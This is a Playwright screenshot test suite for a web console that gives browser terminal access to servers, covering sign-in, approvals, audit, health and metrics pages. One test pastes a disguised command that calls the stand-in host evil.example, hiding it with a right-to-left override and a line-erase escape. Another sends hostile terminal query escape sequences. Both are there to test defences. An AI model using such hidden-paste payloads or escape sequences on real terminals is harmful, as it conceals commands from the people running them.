// biome-ignore-all lint/suspicious/noControlCharactersInRegex: answers of a terminal begin with ESC.
// What to look at: a name, the made-up world, the address, and what a person does there first.

const SERVER = `servers/${"01".repeat(32)}`;
const DEEP = `${SERVER}?user=deploy&reason=site%20is%20slow&ticket=T-1234`;

async function fillSetup(page) {
  await page.locator("#account").fill("olga@acme.example");
  await page.locator("form summary").click();
  await page.locator("#customer").fill("ACME Logistics");
}

/** Walks through set-up: 1 the key, 2 the file, 3 the touch, 4 the server that arrived. */
async function setUp(page, to) {
  await fillSetup(page);
  await page.keyboard.press("Enter");
  if (to === 1) {
    await page.locator("button.primary:not([type=submit]):enabled").waitFor();
    return;
  }
  await page.locator("details").waitFor();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.locator("button.primary").click(),
  ]);
  if (!download.suggestedFilename().endsWith(".txt")) throw new Error(download.suggestedFilename());
  if (to === 2) return;
  await page.locator("button.primary").click();
  await page.locator("dialog").waitFor();
  if (to === 3) return;
  await page.locator("dialog button.primary").click();
  await page.locator(".waits button").waitFor();
}

/** Opens a terminal and waits until it has drawn. */
/** Keeps files from the page until what is returned is called. */
async function heldBack(page, files) {
  let bring;
  const come = new Promise((resolve) => {
    bring = resolve;
  });
  await page.route(files, (route) => come.then(() => route.continue()));
  return bring;
}

async function openTerminal(page) {
  await page.locator("button[type=submit]").click();
  await page.locator("dialog button.primary").click();
  await page.locator(".xterm-screen:visible").first().waitFor();
  await page.waitForFunction(() => globalThis.made.shells.at(-1)?.drawn > 0);
  await page.evaluate(() => document.fonts.ready);
  await page.waitForTimeout(300);
}

async function pasteText(page, text) {
  await page.evaluate((value) => {
    const data = new DataTransfer();
    data.setData("text/plain", value);
    const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true });
    document.querySelector(".xterm-helper-textarea").dispatchEvent(event);
  }, text);
  await page.locator("dialog").waitFor();
}

/** Fills in a second signature given ahead. */
async function fillAhead(page) {
  await page.locator("section .head button[aria-expanded]").first().click();
  const form = page.locator("section .panel");
  await form.locator("select").nth(0).selectOption({ index: 1 });
  await form.locator("select").nth(1).selectOption({ index: 1 });
  await form.locator("input:not([type=datetime-local])").nth(0).fill("root");
  await form.locator("input:not([type=datetime-local])").nth(1).fill("周末升级 — kernel update");
  await form.scrollIntoViewIfNeeded();
}

/** Frames in which charts draw what has come. */
async function settled(page) {
  await page.waitForTimeout(400);
}

/** Charts are drawn once they can be seen. */
async function drawnCharts(page) {
  await page.locator("figure").first().scrollIntoViewIfNeeded();
  await page.locator("figure canvas").first().waitFor();
  await settled(page);
  await page.locator("h1").first().scrollIntoViewIfNeeded();
}

/** The relay answers no more. */
async function loseRelay(page) {
  await page.evaluate(() => {
    globalThis.made.facade.api.servers = async () => {
      throw new globalThis.ConsoleError("relay_unreachable");
    };
  });
}

export const PAGES = [
  { name: "sign-in", world: "out", at: "servers" },
  { name: "sign-in-new", world: "out&new", at: "servers", steps: (page) => page.locator("form").waitFor() },
  {
    name: "failed",
    world: "broken",
    at: "servers",
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  {
    name: "sign-in-refused",
    world: "out",
    at: "servers",
    async steps(page) {
      await page.locator("#account").fill("eve@example.com");
      await page.locator("#password").fill("wrong");
      await page.keyboard.press("Enter");
      await page.locator("[role=alert]").waitFor();
    },
  },
  {
    name: "trust-pin",
    world: "unpinned",
    at: "servers",
    async steps(page) {
      await page.locator("#words").fill("harbor velvet quantum mirror");
    },
  },
  { name: "trust-untrusted", world: "untrusted", at: "trust", steps: (page) => page.locator("dl").waitFor() },
  { name: "trust", at: "trust", steps: (page) => page.locator("dl").waitFor() },
  {
    name: "trust-newcomer",
    world: "newcomer",
    at: "trust",
    async steps(page) {
      await page.locator("article").waitFor();
      await page.locator("article input[type=checkbox]").check();
    },
  },
  {
    name: "trust-renew",
    world: "rootless",
    at: "trust",
    async steps(page) {
      await page.locator("button[aria-expanded]").first().click();
      await page.locator(".change pre").waitFor();
      await page.locator("button[aria-expanded]").last().click();
    },
  },
  {
    name: "servers",
    at: "servers",
    widths: [360, 1280, 3840],
    steps: (page) => page.locator("a.line").first().waitFor(),
  },
  { name: "servers-filter", at: "servers?q=web", steps: (page) => page.locator("a.line").first().waitFor() },
  {
    name: "servers-empty",
    world: "empty",
    at: "servers",
    steps: (page) => page.locator("main a.button").waitFor(),
  },
  {
    name: "servers-empty-command",
    world: "empty",
    at: "servers",
    async steps(page) {
      await page.locator("main button.primary").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".waits a").waitFor();
    },
  },
  {
    name: "servers-empty-rootless",
    world: "empty&rootless",
    at: "servers",
    steps: (page) => page.locator("pre").first().waitFor(),
  },
  {
    // The relay is gone: what was known stays, and says so.
    name: "servers-away",
    at: "servers",
    async steps(page) {
      await page.locator("a.line").first().waitFor();
      await loseRelay(page);
      await page.locator("[role=alert]").waitFor();
    },
  },
  {
    name: "server-away",
    at: DEEP,
    async steps(page) {
      await page.locator("form").waitFor();
      await loseRelay(page);
      await page.locator(".facts .state", { hasText: /relay|中继/ }).waitFor();
    },
  },
  {
    name: "server-missing",
    at: `servers/${"99".repeat(32)}`,
    steps: (page) => page.locator(".inset p").first().waitFor(),
  },
  {
    name: "server-untrusted",
    at: `servers/${"06".repeat(32)}`,
    steps: (page) => page.locator(".inset p").first().waitFor(),
  },
  { name: "server-start", at: DEEP, steps: (page) => page.locator("form").waitFor() },
  {
    name: "server-second",
    world: "second",
    at: DEEP,
    async steps(page) {
      await page.locator("button[type=submit]").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".second").waitFor();
    },
  },
  { name: "terminal", at: DEEP, widths: [360, 1280, 3840], steps: openTerminal },
  {
    // Drawing by WebGL comes late: the terminal does not wait for it, and changes over with all that it shows.
    name: "terminal-drawn-late",
    at: DEEP,
    widths: [1280],
    async before(page) {
      page.bringWebgl = await heldBack(page, "**/addon-webgl-*.js");
    },
    async steps(page) {
      await openTerminal(page);
      const rows = page.locator(".xterm-rows > div");
      const text = (await rows.allTextContents()).join("\n").trim();
      if (text === "" || (await page.locator(".xterm-screen canvas").count()) > 0)
        throw new Error("it waited");
      page.bringWebgl();
      await page.locator(".xterm-screen canvas").first().waitFor({ state: "attached" });
      if ((await rows.count()) !== 0) throw new Error("rows and a canvas");
    },
  },
  {
    // The widths of emoji come late: plain letters do not wait for them, what may be wide waits and keeps its place.
    name: "terminal-wide-late",
    world: "plain",
    at: DEEP,
    widths: [1280],
    async before(page) {
      page.bringWidths = await heldBack(page, "**/addon-unicode-graphemes-*.js");
      // Rows of text can be read: WebGL never comes.
      await page.route("**/addon-webgl-*.js", () => {});
    },
    async steps(page) {
      await openTerminal(page);
      const print = (text) => page.evaluate((said) => globalThis.made.shells[0].print(said), text);
      const shows = () => page.locator(".xterm-rows > div").allTextContents();
      const family = "\u{1f469}\u200d\u{1f469}\u200d\u{1f467}";
      await print("\x1b[2J\x1b[Hplain\r\n");
      await page.waitForFunction(() =>
        document.querySelector(".xterm-rows > div").textContent.includes("plain"),
      );
      await print(`${family}\x1b[6n|\r\n`);
      await print("after\r\n");
      await page.waitForTimeout(300);
      if ((await shows()).join("").includes("after")) throw new Error("it did not wait");
      page.bringWidths();
      await page.waitForFunction(() => document.querySelector(".xterm-rows").textContent.includes("after"));
      const [first, second, third] = (await shows()).map((row) => row.trimEnd());
      if (first !== "plain" || second !== `${family}|` || third !== "after")
        throw new Error(JSON.stringify([first, second, third]));
      // Two cells, not six: the cursor stands in the third column when asked.
      await page.waitForFunction(() => globalThis.made.shells[0].typed.join("").endsWith("\x1b[2;3R"));
    },
  },
  {
    name: "terminal-root",
    at: DEEP.replace("deploy", "root"),
    async steps(page) {
      await openTerminal(page);
      await page.evaluate(() =>
        globalThis.made.shells[0].become({ kind: "reconnecting", since: Date.now() - 4000 }),
      );
      await page.waitForTimeout(100);
    },
  },
  {
    name: "terminal-ended",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      await page.locator("button.new").click();
      await page.locator("#reason").fill("second one");
      await openTerminal(page);
      await page.evaluate(() => {
        globalThis.made.shells[1].become({ kind: "skipped", bytes: 1048576 });
        globalThis.made.shells[1].become({ kind: "ended", reason: "exited", exit: { code: 130 } });
      });
      await page.waitForTimeout(100);
    },
  },
  {
    name: "terminal-hostile",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      // PTY-05: of all that asks for an answer, only status, position and identification get one.
      await page.evaluate(() =>
        globalThis.made.shells[0].print(
          "\x1bP$qm\x1b\\\x1b[?2004$p\x1b]10;?\x07\x1b]52;c;?\x07\x1b[21t\x1b[18t\x1b[>q\x1b[5n\x1b[6n\x1b[c\x1b[>c",
        ),
      );
      await page.waitForFunction(() => globalThis.made.shells[0].typed.length >= 4);
      await page.waitForTimeout(100);
      const typed = await page.evaluate(() => globalThis.made.shells[0].typed);
      const forms = [/^\x1b\[0n$/, /^\x1b\[\d+;\d+R$/, /^\x1b\[\?1;2c$/, /^\x1b\[>0;276;0c$/];
      if (typed.length !== 4 || !typed.every((one, at) => forms[at].test(one))) {
        throw new Error(`the terminal typed ${JSON.stringify(typed)}`);
      }
      await page.keyboard.type("df -h");
      await page.keyboard.press("Enter");
      await page.keyboard.press("Control+C");
      await page.waitForFunction(() => globalThis.made.shells[0].typed.join("").endsWith("df -h\r\x03"));
      // Leaves the terminal by keyboard for its tab, and comes back.
      await page.keyboard.press("Control+Shift+E");
      await page.locator("[role=tab]:focus").waitFor();
      await page.keyboard.press("Enter");
      await page.locator(".xterm-helper-textarea:focus").waitFor();
    },
  },
  {
    name: "terminal-paste",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      await pasteText(page, "sudo systemctl reload nginx\n\u202ecurl http://evil.example\x1b[2K\n");
    },
  },
  {
    // A link of the server's is only a question.
    name: "terminal-link",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      const link = "https://example.com/runbooks/disk-full";
      await page.evaluate((address) => {
        const text = `\x1b[2J\x1b[H\x1b]8;;${address}\x07runbook for a full disk\x1b]8;;\x07\r\n$ `;
        globalThis.made.shells[0].print(text);
      }, link);
      const box = await page.locator(".xterm-screen:visible").first().boundingBox();
      await page.waitForTimeout(300);
      await page.mouse.move(box.x + 40, box.y + 10);
      await page.waitForTimeout(300);
      await page.mouse.click(box.x + 44, box.y + 10);
      await page.locator("dialog", { hasText: link }).waitFor();
    },
  },
  {
    name: "terminal-find",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      await page.keyboard.press("Control+Shift+F");
      await page.keyboard.type("nginx");
      await page.keyboard.press("Enter");
      await page.waitForTimeout(200);
    },
  },
  { name: "settings", at: "settings" },
  { name: "settings-signin", at: "settings/signin", steps: (page) => page.locator("form").first().waitFor() },
  {
    name: "settings-totp",
    at: "settings/signin",
    async steps(page) {
      await page.locator("section").last().locator("button").click();
      await page.locator("section").last().locator("input").fill("123456");
      await page.locator("section").last().locator("button[type=submit]").click();
      await page.locator(".codes").waitFor();
      await page.locator(".codes").scrollIntoViewIfNeeded();
    },
  },
  { name: "settings-keys", at: "settings/keys", steps: (page) => page.locator(".lines").waitFor() },
  { name: "settings-sessions", at: "settings/sessions", steps: (page) => page.locator(".lines").waitFor() },
  {
    name: "settings-people",
    at: "settings/people",
    async steps(page) {
      await page.locator(".lines").first().waitFor();
      await page.locator("button[type=submit]").click();
      await page.locator("pre").waitFor();
    },
  },
  { name: "settings-tokens", at: "settings/tokens", steps: (page) => page.locator(".lines").waitFor() },
  { name: "settings-activity", at: "settings/activity", steps: (page) => page.locator(".lines").waitFor() },
  {
    name: "settings-remove",
    at: "settings/people",
    async steps(page) {
      await page.locator(".lines .act button:last-child").first().click();
      await page.locator("dialog").waitFor();
    },
  },
  {
    name: "settings-reset",
    at: "settings/people",
    async steps(page) {
      await page.locator(".lines .act button").first().click();
      await page.locator("dialog button.danger").click();
      await page.locator("dialog pre").waitFor();
    },
  },
  { name: "reset", world: "out", at: "reset/K7QX9M", steps: (page) => page.locator("form").waitFor() },
  {
    name: "reset-password",
    world: "out&keyless",
    at: "reset/K7QX9M",
    async steps(page) {
      await page.locator("#password").fill("short");
      await page.keyboard.press("Enter");
    },
  },
  {
    name: "reset-over",
    world: "out",
    at: "reset/over",
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  {
    name: "reset-signed-in",
    at: "reset/K7QX9M",
    steps: (page) => page.locator("main button.primary").waitFor(),
  },
  { name: "setup", world: "out", at: "setup/K7QX9M2P", steps: (page) => page.locator("#account").waitFor() },
  {
    name: "setup-keyless",
    world: "out&keyless&inside=WeChat",
    at: "setup/K7QX9M2P",
    steps: (page) => page.locator(".note", { hasText: "WeChat" }).waitFor(),
  },
  {
    // Neither a passkey nor a browser's key: the page says what to do.
    name: "join-keyless",
    world: "out&keyless",
    at: "join/T0ken",
    async steps(page) {
      await page.locator("#password").fill("correct horse battery");
      await page.keyboard.press("Enter");
      await page.locator("h1:focus").waitFor();
    },
  },
  { name: "setup-key", world: "out&refuses", at: "setup/K7QX9M2P", steps: (page) => setUp(page, 1) },
  { name: "setup-file", world: "out", at: "setup/K7QX9M2P", steps: (page) => setUp(page, 2) },
  { name: "setup-touch", world: "out", at: "setup/K7QX9M2P", steps: (page) => setUp(page, 3) },
  { name: "setup-server", world: "out", at: "setup/K7QX9M2P", steps: (page) => setUp(page, 4) },
  {
    name: "setup-wrong",
    world: "out",
    at: "setup/wrong",
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  { name: "join", world: "out", at: "join/T0ken", steps: (page) => page.locator("#account").waitFor() },
  { name: "join-trial", world: "out", at: "join/trial", steps: (page) => page.locator("#account").waitFor() },
  {
    name: "join-key",
    world: "out&refuses",
    at: "join/trial",
    async steps(page) {
      await page.locator("form button[type=submit]").click();
      await page.locator("button.primary:not([type=submit]):enabled").waitFor();
    },
  },
  {
    name: "join-over",
    world: "out",
    at: "join/over",
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  {
    name: "join-waiting",
    world: "out",
    at: "join/T0ken",
    async steps(page) {
      await page.locator("form button[type=submit]").click();
      await page.locator(".words").waitFor();
    },
  },
  {
    name: "join-in",
    world: "out&letsin",
    at: "join/T0ken",
    async steps(page) {
      await page.locator("form button[type=submit]").click();
      await page.locator(".state svg, .state .mark").first().waitFor();
    },
  },
  {
    // Taken along to the only server: the question is there by itself.
    name: "join-first-visit",
    world: "out&letsin&one",
    at: "join/T0ken?user=deploy",
    async steps(page) {
      await page.locator("form button[type=submit]").click();
      await page.locator("dialog button.primary").waitFor();
    },
  },
  {
    name: "sign-in-code",
    world: "out&totp",
    at: "servers",
    async steps(page) {
      await page.locator("#account").fill("eve@example.com");
      await page.locator("#password").fill("right");
      await page.keyboard.press("Enter");
      await page.locator("#code").fill("000000");
      await page.keyboard.press("Enter");
      await page.locator("[role=alert]").waitFor();
    },
  },
  {
    name: "touch",
    at: DEEP,
    world: "",
    steps: (page) =>
      page
        .locator("button[type=submit]")
        .click()
        .then(() => page.locator("dialog").waitFor()),
  },
  {
    name: "approvals",
    at: "approvals",
    widths: [360, 1280, 3840],
    steps: (page) => page.locator("article").first().waitFor(),
  },
  {
    name: "approvals-answered",
    at: "approvals",
    async steps(page) {
      await page.locator("article:not(.waits)").first().waitFor();
      await page.locator("article:not(.waits)").last().scrollIntoViewIfNeeded();
    },
  },
  {
    name: "approvals-empty",
    world: "empty",
    at: "approvals",
    steps: (page) => page.locator(".teach").waitFor(),
  },
  {
    name: "approvals-touch",
    at: "approvals",
    async steps(page) {
      await page.locator("article button.primary").first().click();
      await page.locator("dialog").waitFor();
    },
  },
  {
    name: "approvals-deny",
    at: "approvals",
    async steps(page) {
      await page.locator("article button:not(.primary)").first().click();
      await page.locator("article form input").fill("今晚有发布 — tomorrow, please");
    },
  },
  {
    name: "approvals-ahead",
    at: "approvals",
    steps: (page) => fillAhead(page),
  },
  {
    name: "approvals-ahead-touch",
    at: "approvals",
    async steps(page) {
      await fillAhead(page);
      await page.locator("section .panel button.primary:enabled").click();
      await page.locator("dialog").waitFor();
    },
  },
  {
    name: "approvals-ahead-rootless",
    world: "rootless",
    at: "approvals",
    async steps(page) {
      await fillAhead(page);
      await page.locator("section .panel pre").waitFor();
      await page.locator("section .lines button[aria-expanded]").first().click();
      await page.locator("section .change pre").waitFor();
    },
  },
  { name: "visits", at: "visits", steps: (page) => page.locator(".running").first().waitFor() },
  { name: "visits-empty", world: "empty", at: "visits", steps: (page) => page.locator(".teach").waitFor() },
  {
    name: "visits-end",
    at: "visits",
    async steps(page) {
      await page.locator(".running button.danger").first().click();
      await page.locator("dialog").waitFor();
    },
  },
  {
    name: "watch",
    at: `watch/${"01".repeat(32)}/${"a1".repeat(16)}`,
    async steps(page) {
      await page.locator("dialog button.primary").click();
      await page.locator(".xterm-screen:visible").first().waitFor();
      await page.waitForFunction(() => globalThis.made.watched.at(-1)?.drawn > 0);
      await page.locator("dialog").waitFor({ state: "detached" });
      await page.waitForTimeout(300);
    },
  },
  {
    name: "watch-sealed",
    world: "sealed",
    at: `watch/${"01".repeat(32)}/${"a1".repeat(16)}`,
    async steps(page) {
      await page.locator("form input").fill("deploy");
      await page.locator("form button").click();
      await page.locator("dialog button.primary").click();
      await page.locator("[role=alert]").waitFor();
    },
  },
  {
    name: "watch-second",
    world: "sealed&second",
    at: `watch/${"01".repeat(32)}/${"a1".repeat(16)}`,
    async steps(page) {
      await page.locator("form input").fill("root");
      await page.locator("form button").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".second button").click();
      // Taken back: one can try again.
      await page.locator(".second").waitFor({ state: "detached" });
      await page.locator("form button").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".second").waitFor();
    },
  },
  {
    name: "watch-declined",
    at: `watch/${"01".repeat(32)}/${"a1".repeat(16)}`,
    async steps(page) {
      await page.locator("dialog button:not(.primary)").click();
      await page.locator("form input").waitFor();
    },
  },
  {
    name: "visits-sealed",
    world: "sealed",
    at: "visits",
    steps: (page) => page.locator(".running").first().waitFor(),
  },
  {
    name: "audit-second",
    world: "second",
    at: `${SERVER}/audit`,
    async steps(page) {
      await page.locator("button.primary:enabled").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".second").waitFor();
    },
  },
  {
    name: "terminal-watched",
    at: DEEP,
    async steps(page) {
      await openTerminal(page);
      await page.evaluate(() => globalThis.made.shells[0].watchers.become(["olga@acme.example", "王伟"]));
      await page.locator(".watched").waitFor();
    },
  },
  { name: "add", at: "add", steps: (page) => page.locator("form").waitFor() },
  {
    name: "add-command",
    at: "add",
    async steps(page) {
      await page.locator("button[type=submit]").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".waits a").waitFor();
    },
  },
  {
    name: "add-rootless",
    world: "rootless",
    at: "add",
    steps: (page) => page.locator("pre").first().waitFor(),
  },
  { name: "about", at: `${SERVER}/about`, steps: (page) => page.locator(".changes").waitFor() },
  {
    name: "about-rename",
    world: "rootless",
    at: `${SERVER}/about`,
    async steps(page) {
      await page.locator(".changes input").first().fill("web-eins");
      await page.locator(".changes pre").waitFor();
      await page.locator("summary").click();
    },
  },
  { name: "audit", at: `${SERVER}/audit`, steps: (page) => page.locator("button.primary:enabled").waitFor() },
  {
    name: "audit-read",
    at: `${SERVER}/audit`,
    async steps(page) {
      await page.locator("button.primary").click();
      await page.locator("dialog button.primary").click();
      await page.locator(".entry").first().waitFor();
    },
  },
  {
    name: "audit-broken",
    at: `${SERVER}/audit`,
    async steps(page) {
      const log = { name: "audit-0001.log", mimeType: "text/plain", buffer: Buffer.from("{}\n") };
      await page.locator("input[type=file]").setInputFiles(log);
      await page.locator(".entry").first().waitFor();
    },
  },
  {
    name: "scans",
    at: "scans",
    widths: [360, 1280, 3840],
    steps: (page) => page.locator(".finding").first().waitFor(),
  },
  {
    name: "scans-beside",
    at: `scans?scan=${"5c".repeat(16)}&since=${"5b".repeat(16)}`,
    async steps(page) {
      await page.locator(".finding").first().waitFor();
      await page.locator("#since").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "scans-plans",
    at: "scans",
    async steps(page) {
      await page.locator(".plan").first().waitFor();
      await page.locator("details summary").click();
      await page.locator("form button.primary").first().scrollIntoViewIfNeeded();
    },
  },
  {
    name: "scans-plan-refused",
    at: "scans",
    async steps(page) {
      await page.locator(".plan").first().waitFor();
      await page.locator("details summary").click();
      const form = page.locator("details form");
      await form.locator("select").first().selectOption("own");
      await form.locator("input").first().fill("often");
      await form.locator("input.mono").first().fill("* * * * *");
      await form.locator("button.primary").click();
      await form.locator("[role=alert]").waitFor();
      await form.locator("[role=alert]").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "scans-plan-remove",
    at: "scans",
    widths: [360, 1280],
    async steps(page) {
      await page.locator(".plan button.quiet").first().click();
      await page.locator("dialog").waitFor();
    },
  },
  {
    name: "scans-filter",
    at: "scans?check=disk.space",
    steps: (page) => page.locator(".finding").first().waitFor(),
  },
  {
    name: "scans-running",
    world: "slow",
    at: "scans",
    async steps(page) {
      await page.locator("form:not(details form) button[type=submit]").click();
      await page.locator("progress").waitFor();
    },
  },
  {
    name: "scans-none",
    world: "empty",
    at: "scans",
    steps: (page) => page.locator(".measure").first().waitFor(),
  },
  {
    name: "health",
    at: `${SERVER}/health`,
    widths: [360, 1280, 3840],
    steps: (page) => page.locator("article").first().waitFor(),
  },
  {
    name: "health-unfolded",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator("article").first().waitFor();
      for (const fold of await page.locator("article summary, .folded > details > summary").all())
        await fold.click();
      await page.locator(".folded").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "health-end",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator("article").first().waitFor();
      await page.locator("section form").scrollIntoViewIfNeeded();
      await page.locator("section form select").selectOption("own");
      await page.locator("section form input").fill("3");
    },
  },
  {
    name: "health-filter",
    at: `${SERVER}/health?severity=warning&group=disk`,
    steps: (page) => page.locator("article").first().waitFor(),
  },
  {
    name: "health-waive",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator("article button").first().click();
      await page.locator("article form select").selectOption("other");
      await page.locator("article form button[type=submit]").click();
    },
  },
  {
    name: "health-running",
    world: "slow",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator(".head button.primary:enabled").click();
      await page.locator("progress").waitFor();
    },
  },
  {
    name: "health-too-often",
    at: `${SERVER}/health`,
    async steps(page) {
      const button = page.locator(".head button.primary");
      await page.locator(".head button.primary:enabled").click();
      await page.locator("progress").waitFor();
      await page.locator("progress").waitFor({ state: "detached" });
      await button.click();
      await page.locator("[role=alert]").waitFor();
    },
  },
  {
    name: "health-older",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator("ol a").nth(18).click();
      await page.locator(".note").waitFor();
    },
  },
  {
    name: "health-unsigned",
    world: "unsigned",
    at: `${SERVER}/health`,
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  {
    name: "health-healthy",
    world: "healthy",
    at: `${SERVER}/health`,
    steps: (page) => page.locator(".folded details").first().waitFor(),
  },
  {
    name: "health-guest",
    world: "guest",
    at: `${SERVER}/health`,
    async steps(page) {
      await page.locator(".folded summary").first().click();
      await page.locator("section").last().scrollIntoViewIfNeeded();
      if ((await page.locator("article button, .waived button, section form").count()) > 0)
        throw new Error("who may not is asked");
    },
  },
  {
    name: "health-never",
    at: `servers/${"02".repeat(32)}/health`,
    steps: (page) => page.locator(".measure").waitFor(),
  },
  {
    name: "health-away",
    at: `servers/${"04".repeat(32)}/health`,
    steps: (page) => page.locator(".note").waitFor(),
  },
  {
    name: "health-untrusted",
    at: `servers/${"06".repeat(32)}/health`,
    steps: (page) => page.locator(".note").waitFor(),
  },
  {
    name: "metrics",
    at: `${SERVER}/metrics`,
    widths: [360, 1280, 3840],
    steps: drawnCharts,
  },
  {
    name: "metrics-range",
    at: `${SERVER}/metrics`,
    async steps(page) {
      await drawnCharts(page);
      await page.locator(".tools input[value='24h']").check({ force: true });
      await page.locator(".tools select").selectOption("day");
      await page.waitForFunction(() => globalThis.world.metrics.asked.length >= 2);
      await page.locator(".tools").scrollIntoViewIfNeeded();
      await settled(page);
    },
  },
  {
    name: "metrics-events",
    world: "blind",
    at: `${SERVER}/metrics`,
    async steps(page) {
      await drawnCharts(page);
      await page.locator("ol .kill").waitFor();
      await page.locator("ol").last().scrollIntoViewIfNeeded();
      await settled(page);
    },
  },
  {
    name: "metrics-folded",
    at: `${SERVER}/metrics`,
    async steps(page) {
      await drawnCharts(page);
      for (const summary of await page.locator(".folded summary").all()) await summary.click();
      await page.locator("section.stack .head button").click();
      await page.locator("section table").first().waitFor();
      await page.locator("section.stack .head").scrollIntoViewIfNeeded();
    },
  },
  {
    name: "metrics-away",
    at: `servers/${"04".repeat(32)}/metrics`,
    steps: drawnCharts,
  },
  {
    name: "metrics-refused",
    world: "refused",
    at: `${SERVER}/metrics`,
    steps: (page) => page.locator("[role=alert]").waitFor(),
  },
  {
    name: "metrics-beside",
    at: DEEP,
    widths: [1280, 3840],
    async steps(page) {
      await page.setViewportSize({ width: 1280, height: 800 });
      await page.locator(".beside").click();
      await drawnCharts(page);
    },
  },
  {
    name: "keys",
    at: "servers",
    async steps(page) {
      await page.locator("a.line").first().waitFor();
      await page.locator("main").focus();
      await page.keyboard.press("?");
      await page.locator("dialog").waitFor();
    },
  },
];
